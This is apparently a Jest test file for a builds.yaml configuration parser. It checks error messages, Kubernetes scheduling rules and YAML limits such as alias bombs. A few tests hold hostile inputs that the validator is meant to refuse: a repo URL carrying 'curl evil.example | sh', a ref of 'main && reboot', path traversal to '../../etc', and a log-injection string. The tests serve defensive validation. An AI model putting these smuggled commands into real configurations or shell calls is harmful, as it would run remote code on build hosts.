import { DEFAULT_BUILDER_RESOURCES } from '../../lib/constructs/builder-container';
import { DEFAULT_BUILDKIT_RESOURCES } from '../../lib/constructs/buildkit-container';
import { amountsOf } from '../../lib/config/quantity';
import { mkdtempSync, writeFileSync } from 'fs';
import { tmpdir } from 'os';
import { join } from 'path';
import { ConfigError, loadBuildsFile, parseBuildsFile } from '../../lib/config/builds-file';
import { REFUSED_AT_SYNTH } from '../support/refused-at-synth';
import { SEED_BUILD } from '../support/synth';

function problemsOf(text: string): string {
  try {
    parseBuildsFile(text, 'builds.yaml');
  } catch (e) {
    expect(e).toBeInstanceOf(ConfigError);
    return (e as Error).message;
  }
  throw new Error('expected a ConfigError');
}

describe('parseBuildsFile: defaults', () => {
  test('the seed build gets ref main, context "." and Dockerfile defaults', () => {
    const file = parseBuildsFile(SEED_BUILD);
    expect(file.registry).toEqual({});
    expect(file.builders).toEqual({});
    expect(file.builds).toEqual([{
      engine: 'docker',
      repo: 'https://github.com/jpetazzo/container.training',
      ref: 'main',
      defaultBranch: 'main',
      images: [{ context: 'dockercoins/worker', dockerfile: 'Dockerfile' }],
      trigger: { branches: ['main'], tags: ['main'] },
    }]);
  });

  test('trigger: pushes of the build\'s own ref by default, none for a SHA; patterns as written', () => {
    const sha = parseBuildsFile('builds:\n  - repo: https://example.com/a.git\n    ref: 0123456789abcdef0123456789abcdef01234567\n');
    expect(sha.builds[0].trigger).toEqual({ branches: [], tags: [] });
    const set = parseBuildsFile('builds:\n  - repo: https://example.com/a.git\n    trigger: {branches: [main, "release/*"], tags: ["v*"]}\n');
    expect(set.builds[0].trigger).toEqual({ branches: ['main', 'release/*'], tags: ['v*'] });
  });

  test('trigger: unknown keys and patterns no ref could match are refused with file:line', () => {
    const text = 'builds:\n  - repo: https://example.com/a.git\n    trigger:\n      branch: [main]\n      tags: ["v*", "bad..tag", "-x"]\n';
    expect(() => parseBuildsFile(text)).toThrow(/builds.yaml:4:7: builds\[0\]\.trigger\.branch: unknown key "branch": allowed keys here: branches, tags/);
    const bad = 'builds:\n  - repo: https://example.com/a.git\n    trigger:\n      tags: ["v*", "bad..tag", "-x"]\n';
    let message = '';
    try { parseBuildsFile(bad); } catch (e) { message = (e as Error).message; }
    expect(message.split('\n')).toEqual([
      expect.stringMatching(/^builds.yaml:4:20: builds\[0\]\.trigger\.tags\[1\]: "bad\.\.tag" contains "\.\.".*\(patterns may use \* and \*\*\)$/),
      expect.stringMatching(/^builds.yaml:4:32: builds\[0\]\.trigger\.tags\[2\]: "-x" starts with "-"/),
    ]);
  });

  test('a build without images builds the repository root', () => {
    const file = parseBuildsFile('builds: [{repo: "https://x.example/app.git", ref: v1.0.0, defaultBranch: master}]');
    expect(file.builds[0]).toMatchObject({ ref: 'v1.0.0', defaultBranch: 'master', images: [{ context: '.', dockerfile: 'Dockerfile' }] });
  });

  test('paths are normalized', () => {
    const file = parseBuildsFile('builds: [{repo: "https://x.example/app.git", images: [{context: ./svc/api/, dockerfile: ./docker/Dockerfile.prod}]}]');
    expect(file.builds[0].images[0]).toEqual({ context: 'svc/api', dockerfile: 'docker/Dockerfile.prod' });
  });
});

describe('parseBuildsFile: errors name the file, line, key and fix', () => {
  test('unknown key', () => {
    expect(problemsOf(`builds:
  - repo: https://x.example/app.git
    images:
      - context: api
        name: my-api
`)).toBe('builds.yaml:5:9: builds[0].images[0].name: unknown key "name": image names are derived from the context directory (or the repository name) and cannot be set; remove it');
  });

  test('unknown top-level key lists the allowed ones', () => {
    expect(problemsOf(`registy: {nodePort: 30500}\n${SEED_BUILD}`)).toBe(
      'builds.yaml:1:1: registy: unknown key "registy": allowed keys here: registry, builders, buildTrigger, builds');
  });

  test('wrong type', () => {
    expect(problemsOf(`registry:\n  nodePort: "30500"\n${SEED_BUILD}`)).toBe(
      'builds.yaml:2:13: registry.nodePort: must be a whole number, got string "30500"');
    expect(problemsOf('builds: {repo: x}')).toBe('builds.yaml:1:9: builds: must be a array, got a mapping');
  });

  test('nodePort out of range', () => {
    expect(problemsOf(`registry:\n  nodePort: 5000\n${SEED_BUILD}`)).toBe(
      'builds.yaml:2:13: registry.nodePort: 5000 is outside the NodePort range 30000-32767; pick a value in 30000-32767');
    expect(problemsOf(`registry:\n  nodePort: 40000\n${SEED_BUILD}`)).toMatch(/40000 is outside the NodePort range 30000-32767/);
  });

  test('empty or missing builds', () => {
    expect(problemsOf('builds: []')).toBe('builds.yaml:1:9: builds: must list at least 1 item');
    expect(problemsOf('registry: {nodePort: 30500}')).toBe('builds.yaml:1:1: (top level): missing required key "builds": add it');
    expect(problemsOf('')).toMatch(/must be a object, got null/);
  });

  test('every problem is reported at once', () => {
    const message = problemsOf(`registry: {nodePort: 1}
builders: {workload: Deployment}
builds:
  - repo: https://x.example/app.git
    tag: v1
`);
    expect(message.split('\n')).toEqual([
      'builds.yaml:1:22: registry.nodePort: 1 is outside the NodePort range 30000-32767; pick a value in 30000-32767',
      'builds.yaml:2:22: builders.workload: "Deployment" is not one of "Job", "Pod"',
      'builds.yaml:5:5: builds[0].tag: unknown key "tag": tags are derived from "ref"; set the ref to the branch or tag to build instead',
    ]);
  });

  test('duplicate keys are YAML errors, not silently merged', () => {
    expect(problemsOf(`builds:
  - repo: https://x.example/a.git
    repo: https://x.example/b.git
`)).toBe('builds.yaml:3:5: (top level): YAML error: duplicated mapping key "repo"; keep one of them');
    // Quoted or not, the same key: pointed at from its quote.
    expect(problemsOf(`builds: []\n"builds": []\n`)).toBe('builds.yaml:2:1: (top level): YAML error: duplicated mapping key "builds"; keep one of them');
  });

  test('YAML syntax errors carry their position', () => {
    expect(problemsOf('builds:\n  - repo: [unclosed\n')).toBe('builds.yaml:3:1: (top level): YAML error: deficient indentation: '
      + 'a [ ], { } or quoted value goes on here without its closing ], } or quote; close it, or indent its next line more');
    expect(problemsOf('builds:\n  - repo: x\n     images: []\n')).toMatch(/^builds\.yaml:3:\d+: \(top level\): YAML error: bad indentation/);
  });

  test('source rules: ref, repo and paths', () => {
    const message = problemsOf(`builds:
  - repo: "https://x.example/app.git; curl evil.example | sh"
    ref: "main && reboot"
    images:
      - context: ../../etc
        dockerfile: /Dockerfile
`);
    expect(message.split('\n')).toEqual([
      expect.stringMatching(/^builds\.yaml:2:11: builds\[0\]\.repo: ".*" contains a space or shell character; use a URL such as/),
      expect.stringMatching(/^builds\.yaml:3:10: builds\[0\]\.ref: "main && reboot" contains a space, control or shell character; use a branch name/),
      expect.stringMatching(/^builds\.yaml:5:18: builds\[0\]\.images\[0\]\.context: "\.\.\/\.\.\/etc" escapes the repository with "\.\."/),
      expect.stringMatching(/^builds\.yaml:6:21: builds\[0\]\.images\[0\]\.dockerfile: "\/Dockerfile" is absolute/),
    ]);
  });

  test('a value with a line break or a control character is shown on one line, not echoed raw into the message', () => {
    const message = problemsOf('builds:\n  - repo: https://x.example/app.git\n    ref: |\n      main\n      FAKE: builds.yaml:1:1: injected\n'
      + '    images:\n      - context: "a\\tb\\u202eX"\n');
    expect(message.split('\n')).toEqual([
      'builds.yaml:3:10: builds[0].ref: "main\\u{a}FAKE: builds.yaml:1:1: injected\\u{a}" contains a space, control or shell character; '
        + 'use a branch name, a tag or a full 40-character commit SHA, e.g. "main", "v1.2.0", "feature/login"',
      expect.stringMatching(/^builds\.yaml:7:18: builds\[0\]\.images\[0\]\.context: "a\\u\{9\}b\\u\{202e\}X" contains characters outside/),
    ]);
    expect(problemsOf('"reg\\nistry": {}\nbuilds: [{repo: "https://x.example/app.git"}]\n'))
      .toMatch(/^builds\.yaml:1:1: reg\\u\{a\}istry: unknown key "reg\\u\{a\}istry": allowed keys here/);
  });

  test('a Dockerfile may leave its context but not the repository; buildkit keeps it in the context', () => {
    const ok = parseBuildsFile('builds: [{repo: "https://x.example/app.git", images: [{context: services/api, dockerfile: ../../docker/api.Dockerfile}]}]');
    expect(ok.builds[0].images[0]).toEqual({ context: 'services/api', dockerfile: '../../docker/api.Dockerfile' });
    expect(problemsOf(`builds:
  - repo: https://x.example/app.git
    images:
      - context: services/api
        dockerfile: ../../../Dockerfile
  - repo: https://x.example/other.git
    engine: buildkit
    images:
      - context: services/api
        dockerfile: ../Dockerfile
`).split('\n')).toEqual([
      expect.stringMatching(/^builds\.yaml:5:21: builds\[0\]\.images\[0\]\.dockerfile: "\.\.\/\.\.\/\.\.\/Dockerfile" escapes the repository from context "services\/api"/),
      expect.stringMatching(/^builds\.yaml:10:21: builds\[1\]\.images\[0\]\.dockerfile: "\.\.\/Dockerfile" leaves the context .* the buildkit engine reads the Dockerfile/),
    ]);
  });

  test('a token in the repository URL is refused and not repeated in the message (it would reach logs)', () => {
    const message = problemsOf('builds:\n  - repo: https://ghp_0123456789abcdefghijklmnopqrstuvwxyz@github.com/team/app.git\n');
    expect(message).toMatch(/^builds\.yaml:2:11: builds\[0\]\.repo: "https:\/\/\*\*\*@github\.com\/team\/app\.git" has a user part, which in https:\/\/ URLs is a credential/);
    expect(message).not.toContain('ghp_');
  });

  test('placement values are checked', () => {
    expect(problemsOf(`builders:
  nodeSelector: {builder: true}
  tolerations: [{key: dedicated, operator: Same, effect: NoSchedule}]
  resources: {limits: {memory: 1GB}}
${SEED_BUILD}`).split('\n')).toEqual([
      'builds.yaml:2:27: builders.nodeSelector.builder: must be a string, got boolean true (quote it)',
      'builds.yaml:3:44: builders.tolerations[0].operator: "Same" is not one of "Equal", "Exists"',
      'builds.yaml:4:32: builders.resources.limits.memory: "1GB" is not valid here (expected a whole number of Mi, Gi or Ti such as "512Mi" or "10Gi")',
    ]);
  });
});

describe('parseBuildsFile: builder rules across keys (what the API server or the workload would refuse later)', () => {
  test('workload Pod runs exactly one build', () => {
    expect(problemsOf(`builders:
  workload: Pod
builds: [{repo: "https://x.example/a.git"}, {repo: "https://x.example/b.git"}]
`)).toBe('builds.yaml:2:13: builders.workload: "Pod" runs exactly one build (the single build-image Pod), but builds lists 2; '
      + 'use workload "Job" (one Job per build) or keep one build');
    expect(() => parseBuildsFile(`builders: {workload: Pod}\n${SEED_BUILD}`)).not.toThrow();
  });

  test('tolerations: key, value, effect and tolerationSeconds as Kubernetes requires them', () => {
    expect(problemsOf(`builders:
  tolerations:
    - {operator: Equal, value: x}
    - {operator: Exists, effect: NoSchedule}
    - {key: dedicated, operator: Exists, value: builder}
    - {key: dedicated, value: builder, effect: NoSchedule, tolerationSeconds: 60}
${SEED_BUILD}`).split('\n')).toEqual([
      'builds.yaml:3:7: builders.tolerations[0]: a toleration without "key" must have operator "Exists" (it then tolerates every taint); add a key',
      'builds.yaml:4:34: builders.tolerations[1].effect: a toleration of every taint cannot be limited to one effect; add a key, or remove effect',
      'builds.yaml:5:49: builders.tolerations[2].value: operator "Exists" matches any value, so value must not be set; remove it or use operator "Equal"',
      'builds.yaml:6:79: builders.tolerations[3].tolerationSeconds: only applies to effect "NoExecute" (how long a Pod stays after the taint appears); set effect: NoExecute or remove it',
    ]);
    expect(() => parseBuildsFile(`builders:
  tolerations:
    - {operator: Exists}
    - {key: a, operator: Exists, effect: NoSchedule}
    - {key: b, value: c}
    - {key: d, operator: Equal, value: e, effect: NoExecute, tolerationSeconds: 0}
${SEED_BUILD}`)).not.toThrow();
  });
});

describe('what synth accepts, the API server accepts: refused with file:line, key and fix', () => {
  test.each(REFUSED_AT_SYNTH.map((c) => [c.what, c]))('%s', (_what, c) => {
    expect(problemsOf(c.yaml).split('\n')).toEqual([expect.stringMatching(c.refused)]);
  });

  test('the defaults themselves pass, and so do requests equal to limits', () => {
    expect(() => parseBuildsFile(`builders: {resources: {requests: {cpu: "1", memory: 1Gi}, limits: {cpu: 1000m, memory: 1024Mi}}}\n${SEED_BUILD}`)).not.toThrow();
    expect(() => parseBuildsFile(`builders: {resources: {limits: {cpu: 100m, memory: 128Mi}}}\n${SEED_BUILD}`)).not.toThrow();
    expect(() => parseBuildsFile(`builders: {nodeSelector: {"example.com/role": builder}, activeDeadlineSeconds: 9007199254740991, ttlSecondsAfterFinished: 2147483647}\n${SEED_BUILD}`)).not.toThrow();
  });

  test('the config-side defaults are read from the constructs\' defaults', () => {
    const docker = DEFAULT_BUILDER_RESOURCES;
    expect(amountsOf(docker)).toEqual({
      requests: { cpu: docker.cpu?.request?.amount, memory: `${docker.memory?.request?.toMebibytes()}Mi` },
      limits: { cpu: docker.cpu?.limit?.amount, memory: `${docker.memory!.limit!.toMebibytes() / 1024}Gi` },
    });
    expect(amountsOf(DEFAULT_BUILDKIT_RESOURCES)).toEqual({ requests: { cpu: '500m', memory: '1Gi' }, limits: { cpu: '2', memory: '4Gi' } });
  });

  test('each build is checked against the defaults of the engine it uses', () => {
    // Under BuildKit's 4Gi default limit: fine with builders.engine or the build's own engine.
    expect(() => parseBuildsFile('builders: {engine: buildkit, resources: {requests: {memory: 3Gi}}}\nbuilds: [{repo: "https://x.example/a.git"}]')).not.toThrow();
    expect(() => parseBuildsFile('builders: {resources: {requests: {memory: 3Gi, cpu: 1500m}}}\n'
      + 'builds: [{repo: "https://x.example/a.git", engine: buildkit}]')).not.toThrow();
    // Above docker's 1Gi default limit: refused for the docker builds only, naming them.
    expect(problemsOf('builders: {resources: {requests: {memory: 3Gi}}}\nbuilds:\n'
      + '  - {repo: "https://x.example/a.git", engine: buildkit}\n  - {repo: "https://x.example/b.git"}\n').split('\n')).toEqual([
      'builds.yaml:1:43: builders.resources.requests.memory: requests.memory 3Gi is above the default limit 1Gi of the docker engine (builds[1]); '
        + 'the API server refuses a request above its limit. Set limits.memory to at least 3Gi, or lower the request to at most 1Gi',
    ]);
  });

  test('limits below BuildKit\'s default requests: every one reported at once, per engine in use', () => {
    expect(problemsOf('builders: {engine: buildkit, resources: {limits: {cpu: 200m, memory: 512Mi}}}\nbuilds: [{repo: "https://x.example/a.git"}]').split('\n')).toEqual([
      expect.stringMatching(/^builds\.yaml:1:\d+: builders\.resources\.limits\.cpu: the default request 500m of the buildkit engine \(builds\[0\]\) is above limits\.cpu 200m/),
      expect.stringMatching(/^builds\.yaml:1:\d+: builders\.resources\.limits\.memory: the default request 1Gi of the buildkit engine \(builds\[0\]\) is above limits\.memory 512Mi/),
    ]);
    const mixed = problemsOf('builders: {resources: {limits: {cpu: 50m}}}\nbuilds:\n'
      + '  - {repo: "https://x.example/a.git", engine: buildkit}\n  - {repo: "https://x.example/b.git"}\n').split('\n');
    expect(mixed).toEqual([
      expect.stringMatching(/: the default request 500m of the buildkit engine \(builds\[0\]\) is above limits\.cpu 50m/),
      expect.stringMatching(/: the default request 100m of the docker engine \(builds\[1\]\) is above limits\.cpu 50m/),
    ]);
  });
});

describe('loadBuildsFile', () => {
  test('reads a file and names it in errors', () => {
    const dir = mkdtempSync(join(tmpdir(), 'builds-'));
    const file = join(dir, 'custom.yaml');
    writeFileSync(file, 'builds: []\n');
    expect(() => loadBuildsFile(file)).toThrow(`${file}:1:9: builds: must list at least 1 item`);
  });

  test('a missing file says how to point at one', () => {
    expect(() => loadBuildsFile('/nonexistent/builds.yaml')).toThrow(/cannot read the file \(ENOENT\); create it or set BUILDS_CONFIG/);
  });
});

describe('parseBuildsFile: builders.engine', () => {
  test('default docker; builders.engine applies to every build; a build may override it', () => {
    expect(parseBuildsFile(SEED_BUILD).builds.map((b) => b.engine)).toEqual(['docker']);
    const file = parseBuildsFile(`builders: {engine: buildkit}
builds:
  - {repo: "https://x.example/a.git"}
  - {repo: "https://x.example/b.git", engine: docker}
`);
    expect(file.builds.map((b) => b.engine)).toEqual(['buildkit', 'docker']);
    expect(parseBuildsFile('builds: [{repo: "https://x.example/a.git", engine: buildkit}]').builds[0].engine).toBe('buildkit');
  });

  test('an unknown engine names both places with their line', () => {
    expect(problemsOf(`builders:
  engine: kaniko
builds:
  - repo: https://x.example/a.git
    engine: podman
`)).toBe([
      'builds.yaml:2:11: builders.engine: "kaniko" is not one of "docker", "buildkit"',
      'builds.yaml:5:13: builds[0].engine: "podman" is not one of "docker", "buildkit"',
    ].join('\n'));
  });

  test('buildkit: an http(s) repository URL must end in .git (BuildKit downloads any other as a file)', () => {
    const refused = (n: number, line: number, url: string, fix: string) => `builds.yaml:${line}:11: builds[${n}].repo: "${url}": the buildkit engine `
      + 'needs an http(s) repository URL that ends in .git, with no trailing slash (BuildKit treats any other http(s) URL as a file to download); '
      + fix;
    expect(problemsOf(`builders: {engine: buildkit}
builds:
  - repo: https://github.com/jpetazzo/container.training
  - repo: https://github.com/jpetazzo/container.training.git
  - repo: git@github.com:jpetazzo/container.training
  - repo: https://x.example/trailing.git/
  - repo: HTTPS://x.example/upper
  - repo: HTTPS://x.example/upper.git
  - repo: https://x.example/shouting.GIT
`)).toBe([
      refused(0, 3, 'https://github.com/jpetazzo/container.training', 'end it in .git: write "https://github.com/jpetazzo/container.training.git"'),
      // BuildKit's own test is on the path's end: a trailing slash is a file URL to it, so is any scheme case but a lower-case .git.
      refused(3, 6, 'https://x.example/trailing.git/', 'drop the trailing slash: write "https://x.example/trailing.git"'),
      refused(4, 7, 'HTTPS://x.example/upper', 'end it in .git: write "HTTPS://x.example/upper.git"'),
      refused(6, 9, 'https://x.example/shouting.GIT', 'end it in .git: write "https://x.example/shouting.git"'),
    ].join('\n'));
    // The docker engine clones with git, which takes both.
    expect(() => parseBuildsFile(SEED_BUILD)).not.toThrow();
    expect(() => parseBuildsFile(`builders: {engine: buildkit}\nbuilds: [{repo: "https://x.example/a", engine: docker}]`)).not.toThrow();
  });
});

describe('registry credentials, retention and garbage collection', () => {
  const BUILD = `builds:
  - repo: https://x.example/shop.git
    images: [{context: services/api}, {context: services/worker}]
`;

  test('all optional; given, they reach the constructs\' props', () => {
    const file = parseBuildsFile(`registry:
  auth: {htpasswdSecret: pushers, pushSecret: ci-push}
  retention: {keepCommitTags: 5, schedule: "30 2 * * 1-5", images: {worker: 20}}
  garbageCollection: {at: "03:45", drainSeconds: 10}
${BUILD}`);
    expect(file.registry).toEqual({
      auth: { htpasswdSecret: 'pushers', pushSecret: 'ci-push' },
      retention: { keepCommitTags: 5, schedule: '30 2 * * 1-5', images: { worker: 20 } },
      garbageCollection: { at: '03:45', drainSeconds: 10 },
    });
  });

  test('every problem at once, with line and fix', () => {
    expect(problemsOf(`registry:
  auth: {pushSecret: "Push_Secret"}
  retention:
    keepCommitTags: 0
    schedule: "daily"
  garbageCollection: {at: "25:00"}
${BUILD}`).split('\n')).toEqual([
      'builds.yaml:2:22: registry.auth.pushSecret: "Push_Secret" is not valid here (expected the name of a Secret: lower-case letters, digits, "-" and ".")',
      'builds.yaml:4:21: registry.retention.keepCommitTags: 0 is outside 1-1000; pick a value in 1-1000',
      'builds.yaml:5:15: registry.retention.schedule: "daily" is not valid here (expected a cron schedule of 5 fields (minute hour day month weekday, UTC) such as "0 3 * * *")',
      'builds.yaml:6:27: registry.garbageCollection.at: "25:00" is not valid here (expected a UTC time of day HH:MM such as "04:00")',
    ]);
  });

  test('a per-image policy must name an image some build pushes', () => {
    expect(problemsOf(`registry:
  retention:
    images:
      workr: 3
${BUILD}`)).toBe('builds.yaml:4:14: registry.retention.images.workr: no build pushes an image named "workr"; use one of: api, worker');
  });
});

/**
 * Line and column of the `occurrence`-th `needle` in `text` (+ `shift` characters), counted here by
 * plain string search and line splitting, independently of the reader under test.
 */
function at(text: string, needle: string, { occurrence = 1, shift = 0 } = {}): string {
  let index = -1;
  for (let n = 0; n < occurrence; n++) {
    index = text.indexOf(needle, index + 1);
    if (index < 0) throw new Error(`"${needle}" (${occurrence}) is not in the text`);
  }
  index += shift;
  const before = text.slice(0, index).split(/\r\n|\r|\n/);
  return `builds.yaml:${before.length}:${before[before.length - 1].replace(/^\ufeff/, '').length + 1}`;
}

describe('parseBuildsFile: line and column of each problem', () => {
  // Comments (with the characters YAML gives meaning to), a folded block scalar over several lines,
  // flow collections inside block ones, a quoted key, and a problem on every level after them.
  const SCHEMA_TEXT = `# builds.yaml: comments with "quotes", [brackets], {braces}, - dashes, | and >
registry:
  retention:   # a comment after a key: with a colon
    # a whole-line comment: [x]
    schedule: >-
      30 2
      * * 1-5
    keepCommitTags: 0
builders:
  "engine": kaniko
  nodeSelector:
  tolerations: [{key: a, operator: Exists}, {key: b, operator: Same, effect: NoSchedule}]
builds:
  # the first build
  - repo: https://x.example/app.git   # trailing comment
    images:
      - {context: svc/api, dockerfile: Dockerfile}
      - {context: "../up", name: x}
  - {ref: main, images: [{context: a}]}
`;
  const schemaProblems = (text: string) => [
    `${at(text, 'keepCommitTags: 0', { shift: 'keepCommitTags: '.length })}: registry.retention.keepCommitTags: 0 is outside 1-1000; pick a value in 1-1000`,
    `${at(text, 'kaniko')}: builders.engine: "kaniko" is not one of "docker", "buildkit"`,
    // An empty value sits right after its key's colon.
    `${at(text, 'nodeSelector:', { shift: 'nodeSelector:'.length })}: builders.nodeSelector: must be a object, got null`,
    `${at(text, 'Same')}: builders.tolerations[1].operator: "Same" is not one of "Equal", "Exists"`,
    // An unknown key's position is the key's; a missing key's, its mapping's.
    `${at(text, 'name')}: builds[0].images[1].name: unknown key "name": image names are derived from the context directory (or the repository name) and cannot be set; remove it`,
    `${at(text, '{ref')}: builds[1]: missing required key "repo": add it`,
  ];

  // The source rules (after the schema passed) locate their values the same way; a block scalar is located at its > or | header.
  const RULES_TEXT = `# comment: [x] {y} - | >
builds:
  # the first build
  - repo: https://x.example/app.git   # trailing: comment
    ref: >-
      main &&
      reboot
    images:
      - {context: svc/api, dockerfile: Dockerfile}
      - {context: "../up"}
  - {repo: "https://x.example/b.git", images: [{context: a}, {context: b, dockerfile: '/abs'}]}
`;
  const rulesProblems = (text: string) => [
    expect.stringMatching(new RegExp(`^${at(text, '>-')}: builds\\[0\\]\\.ref: "main && reboot" contains a space`)),
    expect.stringMatching(new RegExp(`^${at(text, '"../up"')}: builds\\[0\\]\\.images\\[1\\]\\.context: "\\.\\./up" escapes the repository`)),
    expect.stringMatching(new RegExp(`^${at(text, "'/abs'")}: builds\\[1\\]\\.images\\[1\\]\\.dockerfile: "/abs" is absolute`)),
  ];

  test('deep in flow and block collections, after comments and a multi-line block scalar', () => {
    expect(problemsOf(SCHEMA_TEXT).split('\n')).toEqual(schemaProblems(SCHEMA_TEXT));
    expect(problemsOf(RULES_TEXT).split('\n')).toEqual(rulesProblems(RULES_TEXT));
  });

  test('the same with CRLF line endings, and with a lone CR', () => {
    for (const newline of ['\r\n', '\r']) {
      const schemaText = SCHEMA_TEXT.replace(/\n/g, newline);
      expect(problemsOf(schemaText).split('\n')).toEqual(schemaProblems(schemaText));
      const rulesText = RULES_TEXT.replace(/\n/g, newline);
      expect(problemsOf(rulesText).split('\n')).toEqual(rulesProblems(rulesText));
    }
  });

  test('a byte order mark is not a column', () => {
    const text = `\ufeffregisty: {}\n${SEED_BUILD}`;
    expect(problemsOf(text)).toBe('builds.yaml:1:1: registy: unknown key "registy": allowed keys here: registry, builders, buildTrigger, builds');
    expect(at(text, 'registy')).toBe('builds.yaml:1:1');
  });

  test('YAML 1.2: on, yes, no, y and n are strings, not booleans (kubectl would read them as YAML 1.1: dist/ quotes them)', () => {
    const file = parseBuildsFile(`builders: {nodeSelector: {a: on, b: yes, c: no, d: y, e: N, f: off}}\n${SEED_BUILD}`);
    expect(file.builders.nodeSelector).toEqual({ a: 'on', b: 'yes', c: 'no', d: 'y', e: 'N', f: 'off' });
    expect(parseBuildsFile('builds: [{repo: "https://x.example/a.git", ref: on, trigger: {branches: [yes]}}]').builds[0])
      .toMatchObject({ ref: 'on', trigger: { branches: ['yes'] } });
    // A file that asks for YAML 1.1 gets it: then `yes` is a boolean, refused where a string belongs.
    const text = `%YAML 1.1\n---\nbuilders: {nodeSelector: {a: yes}}\n${SEED_BUILD}`;
    expect(problemsOf(text)).toBe(`${at(text, 'yes')}: builders.nodeSelector.a: must be a string, got boolean true (quote it)`);
  });
});

describe('parseBuildsFile: files that are not one plain YAML mapping', () => {
  test('empty, comments only, not a mapping', () => {
    expect(problemsOf('')).toBe('builds.yaml: (top level): must be a object, got null');
    expect(problemsOf('# nothing yet\n\n')).toBe('builds.yaml: (top level): must be a object, got null');
    expect(problemsOf('\n\n- repo: x\n')).toBe('builds.yaml:3:1: (top level): must be a object, got a list');
  });

  test('more than one document', () => {
    const text = `${SEED_BUILD}---\nbuilds: []\n`;
    expect(problemsOf(text)).toBe(`${at(text, '---')}: (top level): YAML error: more than one document (after a "---" or "..." line); keep one: remove that line and what follows, or merge them`);
    // A leading "---" starts the one document.
    expect(() => parseBuildsFile(`---\n${SEED_BUILD}`)).not.toThrow();
  });

  test('tabs: refused as indentation; in a flow collection named as the cause', () => {
    expect(problemsOf('registry:\n\tnodePort: 30500\nbuilds: []\n')).toBe('builds.yaml:2:1: (top level): YAML error: tab characters must not be used in indentation');
    expect(problemsOf(`registry: {nodePort:\t30500}\n${SEED_BUILD}`)).toMatch(/^builds\.yaml:1:\d+: \(top level\): YAML error: deficient indentation: this line has a tab, .* replace it with spaces$/);
    // A tab after a block key's colon is separation, as YAML says.
    expect(parseBuildsFile(`registry:\n  nodePort:\t30500\n${SEED_BUILD}`).registry).toEqual({ nodePort: 30500 });
  });

  test('aliases: a value that contains itself, an alias to nothing, an alias bomb: refused at the alias', () => {
    const self = `builders: &b {engine: *b}\n${SEED_BUILD}`;
    expect(problemsOf(self)).toBe(`${at(self, '*b')}: (top level): YAML error: alias *b is inside the value it refers to (it would contain itself); write the value out`);
    const none = `builders: *nope\n${SEED_BUILD}`;
    expect(problemsOf(none)).toBe(`${at(none, '*nope')}: (top level): YAML error: alias *nope refers to no anchor before it; add &nope to the value it stands for, above it`);
    // 9 aliases of 9 aliases of ...: ~9^7 values; the first alias of line 6 (f: 9 × *e, 66,430 values
    // each) passes 100,000 (the file writes 41 values, so the floor is the limit).
    const bomb = ['a: &a ["x","x","x","x","x","x","x","x","x"]', ...'bcdefgh'.split('').map((k, i) => `${k}: &${k} [${Array(9).fill(`*${'abcdefgh'[i]}`).join(',')}]`), 'builds: *h'].join('\n');
    expect(problemsOf(bomb)).toBe(`${at(bomb, '*e')}: (top level): YAML error: too many aliases: they expand to more than 100,000 values `
      + '(10 per value written in the file, at least 100,000, whichever is larger); write the values out or use fewer or smaller aliases');
  });

  test('one anchor used by 12,000 builds: read (no cap of 10,000 uses); aliases of aliases still refused', () => {
    const builds = Array.from({ length: 11_999 }, (_, i) => `  - {repo: https://x.example/r${i}.git, ref: *ref, images: [{context: s${i}}]}\n`).join('');
    const text = `builds:\n  - repo: https://x.example/first.git\n    ref: &ref release\n    images: [{context: svc}]\n${builds}`;
    const file = parseBuildsFile(text);
    expect(file.builds).toHaveLength(12_000);
    expect(file.builds[11_999].ref).toBe('release');
    // The file writes 108,036 values, so its aliases may add 1,080,360; 10 levels of 10 aliases of each
    // other expand to ~10^10: the 9th *d (111,111 values each) passes the limit.
    const levels = 'abcdefghij'.split('');
    const bomb = [`a0: &a0 [${Array(10).fill('"x"').join(',')}]`, ...levels.map((k, i) => `${k}: &${k} [${Array(10).fill(`*${i === 0 ? 'a0' : levels[i - 1]}`).join(',')}]`), text].join('\n');
    expect(problemsOf(bomb)).toBe(`${at(bomb, '*d', { occurrence: 9 })}: (top level): YAML error: too many aliases: they expand to more than 1,080,360 values `
      + '(10 per value written in the file, at least 100,000, whichever is larger); write the values out or use fewer or smaller aliases');
  });

  test('a 100-image anchor used by 12,000 builds: refused at once, at the alias that passes the limit', () => {
    // 627 KB that config loading would walk as 1.2 million images (>20 s, 1.4 GB): the size of what an
    // alias refers to counts, not only the number of aliases.
    const images = Array.from({ length: 100 }, (_, i) => `{context: s${i}}`).join(', ');
    const builds = Array.from({ length: 11_999 }, (_, i) => `  - {repo: https://x.example/r${i}.git, images: *i}\n`).join('');
    const text = `builds:\n  - repo: https://x.example/first.git\n    images: &i [${images}]\n${builds}`;
    const problems = problemsOf(text);
    // The file writes 48,304 values (allowed: 483,040); each *i adds 301, so the 1,605th passes it.
    expect(problems).toBe(`${at(text, '*i', { occurrence: 1605 })}: (top level): YAML error: too many aliases: they expand to more than 483,040 values `
      + '(10 per value written in the file, at least 100,000, whichever is larger); write the values out or use fewer or smaller aliases');
  });

  test('a long file: every build read, a problem in the last one located', () => {
    const builds = Array.from({ length: 3000 }, (_, i) => `  - repo: https://x.example/r${i}.git\n    images: [{context: svc}]\n`).join('');
    const text = `builds:\n${builds}  - {repo: https://x.example/last.git, images: [{context: /abs}]}\n`;
    expect(problemsOf(text)).toMatch(new RegExp(`^${at(text, '/abs')}: builds\\[3000\\]\\.images\\[0\\]\\.context: "/abs" is absolute`));
  });
});
